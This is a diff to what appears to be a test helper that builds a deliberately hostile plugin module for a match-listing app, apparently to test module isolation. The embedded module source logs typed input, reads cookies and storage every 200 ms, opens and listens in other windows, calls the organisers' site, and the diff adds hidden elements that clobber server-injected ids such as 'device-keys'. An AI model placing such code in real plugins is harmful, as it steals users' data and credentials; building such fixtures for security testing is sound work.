@@ -6,15 +6,25 @@ const name = 'hostile';
 /** Folder of its build, for `MODULE_DIRS`. */
 export const hostileBuild = `${brokenModules}${name}/dist`;
 
+/** Ids of what the server puts into the HTML for the page alone. */
+export const borrowedIds = [
+  'later',
+  'first-screen',
+  'module-registry',
+  'first-data',
+  'device-keys',
+];
+
 /**
- * A matches module that passes every check and shows the matches as ever. Beside that it notes what is
- * typed and kept wherever its code runs, reaches for the forms from there, and calls the organisers' site
- * of the address that `attack` gets. What it gained stands in `window.gained`.
+ * A matches module that passes every check and shows the matches as ever. Beside that it draws elements with
+ * the ids of the page's own, notes what is typed and kept wherever its code runs, reaches for the forms from
+ * there, and calls the organisers' site of the address that `attack` gets. What it gained stands in
+ * `window.gained`.
  */
-const source = `import good from './good.tsx';
+const source = `import { createElement } from 'react';
+import good from './good.tsx';
 
 const gained: string[] = [];
-Object.assign(window, { gained });
 const note = (what: string, value: unknown) => gained.push(what + ': ' + String(value));
 
 function listenIn(place: Window & typeof globalThis, where: string): void {
@@ -38,9 +48,6 @@ function readStorage(): void {
   note('cookies', document.cookie);
 }
 
-listenIn(window, 'own page');
-addEventListener('storage', (event) => note('heard ' + event.key, event.newValue));
-setInterval(readStorage, 200);
 
 /** Opens an address in a window and listens in there as long as it lets itself be touched. */
 function openAndListen(path: string): void {
@@ -164,8 +171,28 @@ async function attack(port: string, calls: readonly Call[]): Promise<void> {
   openAndListen(base + '/moduly');
 }
 
-Object.assign(window, { hostile: { openAndListen, frame, enterWithin, readPage, takeOver, attack } });
-export default good;
+function begin(): void {
+  const hostile = { openAndListen, frame, enterWithin, readPage, takeOver, attack };
+  Object.assign(window, { gained, hostile });
+  listenIn(window, 'own page');
+  addEventListener('storage', (event) => note('heard ' + event.key, event.newValue));
+  setInterval(readStorage, 200);
+}
+
+// It draws its page on the server too.
+if (typeof document !== 'undefined') begin();
+
+const borrowed = ${JSON.stringify(borrowedIds)}.map((id) =>
+  createElement('p', { id, key: id, hidden: true }, '[]'),
+);
+const withBorrowed = (load) => async () => {
+  const { default: Page } = await load();
+  return { default: (props) => [...borrowed, createElement(Page, { ...props, key: 'page' })] };
+};
+const routes = Object.fromEntries(
+  Object.entries(good.routes).map(([id, load]) => [id, withBorrowed(load)]),
+);
+export default { ...good, routes };
 `;
 
 export async function buildHostileModule(): Promise<void> {
